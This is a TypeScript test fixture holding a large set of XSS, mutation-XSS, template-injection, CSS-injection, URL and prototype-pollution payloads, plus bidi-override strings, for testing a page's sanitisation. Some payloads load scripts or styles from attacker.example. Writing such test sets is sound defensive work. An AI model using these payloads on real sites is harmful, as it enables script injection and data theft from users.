/** Texts that attack a page, written for these tests: each would say so by `globalThis.broken` or by a request. */

const run = 'globalThis.broken=1';
const away = 'https://attacker.example';

const handlers = [
  ...['<img src=x onerror=RUN>', '<img src=x onerror="RUN" >', "<img src=x onerror='RUN'>", '<IMG SRC=x ONERROR=RUN>'],
  ...['<img/src=x/onerror=RUN>', '<img\tsrc=x\nonerror=RUN>', '<img src=x onerror\u000b=RUN>', '<img src onerror=RUN>'],
  ...[
    '<svg onload=RUN>',
    '<svg/onload=RUN>',
    '<svg\u000conload=RUN>',
    '<svg onload=RUN//',
    '<svg><animate onbegin=RUN>',
  ],
  ...['<svg><set onbegin=RUN attributeName=x>', '<svg><script>RUN</script></svg>', '<svg><script href=data:,RUN />'],
  ...[
    '<svg><use href="data:image/svg+xml,<svg id=x onload=RUN/>#x">',
    '<svg><a xlink:href=javascript:RUN><text>x</text></a>',
  ],
  ...['<body onload=RUN>', '<body onpageshow=RUN>', '<body onhashchange=RUN>', '<body background=AWAY/a.png>'],
  ...[
    '<iframe src=javascript:RUN>',
    '<iframe srcdoc="<script>RUN</script>">',
    '<iframe onload=RUN>',
    '<iframe src=AWAY>',
  ],
  ...['<object data=javascript:RUN>', '<object data=AWAY>', '<embed src=javascript:RUN>', '<embed src=AWAY/x.swf>'],
  ...[
    '<video src=x onerror=RUN>',
    '<video><source onerror=RUN></video>',
    '<video poster=AWAY/p.png>',
    '<audio src=x onerror=RUN>',
  ],
  ...[
    '<details open ontoggle=RUN>',
    '<details ontoggle=RUN open><summary>x</summary></details>',
    '<dialog open onclose=RUN>',
  ],
  ...[
    '<input autofocus onfocus=RUN>',
    '<select autofocus onfocus=RUN>',
    '<textarea autofocus onfocus=RUN>',
    '<button autofocus onfocus=RUN>',
  ],
  ...[
    '<a autofocus tabindex=0 onfocus=RUN>',
    '<div tabindex=0 autofocus onfocus=RUN>',
    '<div contenteditable autofocus onfocus=RUN>',
  ],
  ...[
    '<marquee onstart=RUN>',
    '<marquee loop=1 onfinish=RUN>',
    '<form onsubmit=RUN><button>',
    '<form action=javascript:RUN><input type=submit autofocus>',
  ],
  ...['<button formaction=javascript:RUN>', '<isindex type=image src=1 onerror=RUN>', '<keygen autofocus onfocus=RUN>'],
  ...[
    '<style onload=RUN></style>',
    '<link rel=stylesheet href=AWAY/a.css onload=RUN>',
    '<link rel=prefetch href=AWAY>',
    '<base href=AWAY/>',
  ],
  ...['<meta http-equiv=refresh content="0;url=javascript:RUN">', '<meta http-equiv=refresh content="0;url=AWAY">'],
  ...[
    '<div style=animation-name:x onanimationstart=RUN>',
    '<div style="transition:1s" ontransitionend=RUN>',
    '<p onpointerenter=RUN>x</p>',
  ],
  ...['<x onclick=RUN>x</x>', '<x-y onclick=RUN>', '<portal src=AWAY>', '<noscript><img src=x onerror=RUN></noscript>'],
  ...[
    '<table background=javascript:RUN>',
    '<td background=AWAY/b.png>',
    '<frameset onload=RUN>',
    '<frame src=javascript:RUN>',
  ],
  ...[
    '<math><mtext><img src=x onerror=RUN></mtext></math>',
    '<math href=javascript:RUN>x</math>',
    '<math><maction actiontype=statusline#AWAY>',
  ],
  ...[
    '<picture><source srcset=x><img onerror=RUN src=y></picture>',
    '<track src=x onerror=RUN>',
    '<body onmessage=RUN>',
    '<applet code=x>',
  ],
];

const scripts = [
  ...[
    '<script>RUN</script>',
    '<SCRIPT>RUN</SCRIPT>',
    '<script\n>RUN</script\n>',
    '<script/x>RUN</script/x>',
    '<script src=AWAY/a.js></script>',
  ],
  ...[
    '<script type=module>import "AWAY/a.js"</script>',
    '<script async src=//attacker.example></script>',
    '<scr<script>ipt>RUN</scr</script>ipt>',
  ],
  ...[
    '<<script>RUN//<</script>',
    '<script>RUN',
    '%3Cscript%3ERUN%3C/script%3E',
    '\u003cscript\u003eRUN\u003c/script\u003e',
    '+ADw-script+AD4-RUN+ADw-/script+AD4-',
  ],
  ...[
    '&lt;script&gt;RUN&lt;/script&gt;',
    '&#60;script&#62;RUN&#60;/script&#62;',
    '&#x3c;img src=x onerror=RUN&#x3e;',
    '\\x3cscript\\x3eRUN\\x3c/script\\x3e',
  ],
  ...[
    '<scr\u0000ipt>RUN</scr\u0000ipt>',
    '＜script＞RUN＜/script＞',
    '‹script›RUN‹/script›',
    '<ſcript>RUN</ſcript>',
    '<script>/*',
    '*/RUN</script>',
  ],
];

const breakouts = [
  ...[
    '" onmouseover="RUN',
    "' onmouseover='RUN",
    '"><img src=x onerror=RUN>',
    "'><svg onload=RUN>",
    '" autofocus onfocus="RUN" x="',
    '` onload=`RUN',
  ],
  ...[
    '"/><script>RUN</script>',
    '</title><script>RUN</script>',
    '</textarea><script>RUN</script>',
    '</style><script>RUN</script>',
    '</script><script>RUN</script>',
  ],
  ...[
    '</option></select><img src=x onerror=RUN>',
    '</template><img src=x onerror=RUN>',
    '</bdi></p><img src=x onerror=RUN>',
    '--><img src=x onerror=RUN>',
  ],
  ...[
    '--!><img src=x onerror=RUN>',
    ']]><img src=x onerror=RUN>',
    '<!--><img src=x onerror=RUN>',
    '<![CDATA[<img src=x onerror=RUN>]]>',
    '<?xml version="1.0"?><x onload=RUN>',
  ],
  ...[
    '" style="background:url(AWAY)',
    '" href="javascript:RUN',
    '" slot="actions',
    '" id="heading',
    '" part="error',
    '" class="note bad',
  ],
];

const parserTricks = [
  ...[
    '<svg><style><img src=x onerror=RUN></style>',
    '<math><mi><mglyph><style><img src=x onerror=RUN>',
    '<noscript><p title="</noscript><img src=x onerror=RUN>">',
  ],
  ...[
    '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>',
    '<svg></p><style><a id="</style><img src=x onerror=RUN>">',
  ],
  ...[
    '<template shadowrootmode=open><img src=x onerror=RUN></template>',
    '<template><script>RUN</script></template>',
    '<select><template><img src=x onerror=RUN>',
  ],
  ...[
    '<xmp><p title="</xmp><svg/onload=RUN>">',
    '<plaintext><img src=x onerror=RUN>',
    '<listing>&lt;img onerror=RUN src=x&gt;</listing>',
    '<a title="`<img src=x onerror=RUN>`">',
  ],
  ...[
    '<?lit$1$?>',
    '<!--?lit$1$?-->',
    '<!--?-->',
    'lit$1$',
    '{{lit-1}}',
    '<x .innerHTML=${1}>',
    '<p ?hidden=x @click=RUN>',
    '${globalThis.broken=1}',
  ],
];

const templates = [
  ...[
    '{{constructor.constructor("RUN")()}}',
    '{{7*7}}',
    '${RUN}',
    '#{RUN}',
    '<%= RUN %>',
    '{%raw%}RUN',
    '[[RUN]]',
    '${{RUN}}',
    '@{RUN}',
    '{{{RUN}}}',
  ],
  ...[
    "{{$on.constructor('RUN')()}}",
    "{{x = {'y':''.constructor.prototype}; x['y'].charAt=[].join;$eval('RUN')}}",
    '<div ng-app>{{RUN}}',
    '<div v-html="RUN">',
    '<div x-init="RUN">',
  ],
  ...[
    "'-RUN-'",
    '";RUN;//',
    "';RUN;//",
    '\\";RUN;//',
    '`;RUN;`',
    '*/RUN/*',
    '\u2028RUN\u2029',
    ")]}'\nRUN",
    '});RUN;//',
    '-RUN-',
    '</script>RUN',
  ],
];

const addresses = [
  ...[
    'javascript:RUN',
    'JaVaScRiPt:RUN',
    'java\tscript:RUN',
    'java\nscript:RUN',
    ' javascript:RUN',
    '\u0001javascript:RUN',
    'javascript&colon;RUN',
    'javascript:RUN//https://acme.example',
  ],
  ...[
    'data:text/html,<script>RUN</script>',
    'data:text/html;base64,PHNjcmlwdD5nbG9iYWxUaGlzLmJyb2tlbj0xPC9zY3JpcHQ+',
    'vbscript:RUN',
    'blob:AWAY/1',
    'view-source:javascript:RUN',
  ],
  ...[
    '//attacker.example',
    '\\\\attacker.example',
    'https:\\\\attacker.example',
    'https://acme.example@attacker.example',
    'file:///etc/passwd',
    'filesystem:AWAY/x',
    'about:blank#RUN',
  ],
];

const keys = [
  ...[
    '__proto__',
    'constructor',
    'prototype',
    'hasOwnProperty',
    'toString',
    'valueOf',
    '{"__proto__":{"broken":1}}',
    '[object Object]',
    'NaN',
    '-0',
    'null',
    'undefined',
  ],
];

/** What styles would be made of: no one may load anything, and no name of a class, a part or an attribute may come of it. */
export const styles: readonly string[] = [
  ...[
    'url(AWAY/1)',
    'url("AWAY/2")',
    "url('//attacker.example/3')",
    'background:url(AWAY/4)',
    'background-image:url(AWAY/5)',
    'list-style:url(AWAY/6)',
    'cursor:url(AWAY/7),auto',
  ],
  ...[
    'content:url(AWAY/8)',
    'border-image:url(AWAY/9)',
    'filter:url(AWAY/10#x)',
    'mask:url(AWAY/11)',
    'clip-path:url(AWAY/12#x)',
    'shape-outside:url(AWAY/13)',
    'offset-path:url(AWAY/14#x)',
  ],
  ...[
    '@import "AWAY/15"',
    '@import url(AWAY/16);',
    '@font-face{font-family:x;src:url(AWAY/17)}',
    '@namespace url(AWAY/18)',
    '@charset "utf-7";',
    '@media all{*{background:url(AWAY/19)}}',
  ],
  ...[
    'image-set("AWAY/20" 1x)',
    '-webkit-image-set(url(AWAY/21) 1x)',
    'cross-fade(url(AWAY/22),url(AWAY/23))',
    'element(#x)',
    'paint(x)',
    'src(AWAY/24)',
    'attr(title url)',
  ],
  ...[
    'expression(RUN)',
    'width:expression(RUN)',
    'behavior:url(AWAY/25)',
    '-moz-binding:url(AWAY/26)',
    'x:e\\78pression(RUN)',
    'background:\\75\\72\\6c(AWAY/27)',
    'u\\rl(AWAY/28)',
  ],
  ...[
    '} * { display: none',
    '}*{background:url(AWAY/29)}',
    '</style><style>*{background:url(AWAY/30)}',
    '/*',
    '*/',
    '{}',
    ';}',
    '\\',
    '"',
    "'",
    '!important',
    ':host{display:none}',
  ],
  ...[
    '::part(error){display:none}',
    '::slotted(*){display:none}',
    '--screenpop-accent:url(AWAY/31)',
    'var(--x,url(AWAY/32))',
    'env(x)',
    'calc(1px/0)',
    'color:red',
    'position:fixed;inset:0;z-index:9999',
  ],
  ...[
    'note bad',
    'primary',
    'visually-hidden',
    'chip warn hidden',
    'hidden',
    'stack',
    'error',
    'icon quiet',
    'animation:x 1s',
    'input[value^=a]{background:url(AWAY/33)}',
  ],
].map(filled);

/** Markup and script in every shape. */
export const attacks: readonly string[] = [
  ...handlers,
  ...scripts,
  ...breakouts,
  ...parserTricks,
  ...templates,
  ...addresses,
  ...keys,
].map(filled);

function filled(text: string): string {
  return text.replaceAll('RUN', run).replaceAll('AWAY', away);
}

/** Characters that turn text around or hide in it. */
export const directions: readonly string[] = [
  ...['\u202e', '\u202d', '\u202b', '\u202a', '\u2067', '\u2066', '\u2068'].map((mark) => `Ann ${mark}txt.exe`),
  ...['\u202c', '\u2069', '\u2069\u2069\u2069', '\u202c\u202c\u2069'].map((mark) => `Ann ${mark}Lee ${mark}`),
  '\u202e\u2067\u202e\u2067Ann',
  '\u2069\u202egnirts',
  'שלום',
  'مرحبا 123',
  'Ann (שלום) 5',
  'א\u202eb\u202cג',
  '\u200fAnn\u200e',
  '\u061cAnn',
];
